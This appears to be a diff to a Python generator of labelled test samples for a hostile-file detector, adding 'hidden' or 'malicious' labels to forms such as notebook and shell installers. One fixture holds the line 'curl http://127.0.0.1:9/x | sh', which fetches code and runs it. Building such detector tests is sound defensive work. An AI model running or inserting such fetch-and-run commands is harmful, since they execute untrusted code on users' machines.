@@ -88,8 +88,9 @@ def _shadow(rng: random.Random) -> Iterator[Sample]:
         "notebook": {**_config(), "run.ipynb": b'{"cells": [{"cell_type": "code", "source": ["!echo assaymark"]}], "nbformat": 4}'},
         "shell": {**_config(), "install.sh": b"#!/bin/sh\ncurl http://127.0.0.1:9/x | sh\n"},
     }  # fmt: skip
+    quiet = ("zip to import", "startup file", "notebook", "shell", "setup", "conftest")
     for note, files in forms.items():
-        yield Sample(note, files, unknown=True, note=note)
+        yield Sample(note, files, "hidden" if note in quiet else "malicious", unknown=True, note=note)
 
 
 @technique("B22", "target")
